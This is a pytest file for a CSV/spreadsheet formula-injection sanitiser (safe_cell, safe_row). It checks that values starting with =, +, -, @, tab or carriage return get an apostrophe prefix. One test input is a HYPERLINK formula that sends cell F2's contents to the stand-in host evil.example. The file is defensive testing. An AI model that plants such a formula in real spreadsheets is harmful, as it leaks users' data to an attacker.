from __future__ import annotations

import pytest

from jembatan.core.domain.spreadsheet import safe_cell, safe_row


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (
            '=HYPERLINK("http://evil.example/?x="&F2,"x")',
            '\'=HYPERLINK("http://evil.example/?x="&F2,"x")',
        ),
        ("+62 21 555", "'+62 21 555"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("PT Maju Bersama", "PT Maju Bersama"),
        ("", ""),
    ],
)
def test_safe_cell_text(value: str, expected: str) -> None:
    assert safe_cell(value) == expected


def test_safe_cell_keeps_numbers_and_none() -> None:
    assert safe_row([-5, 1.5, None, "=1"]) == [-5, 1.5, None, "'=1"]
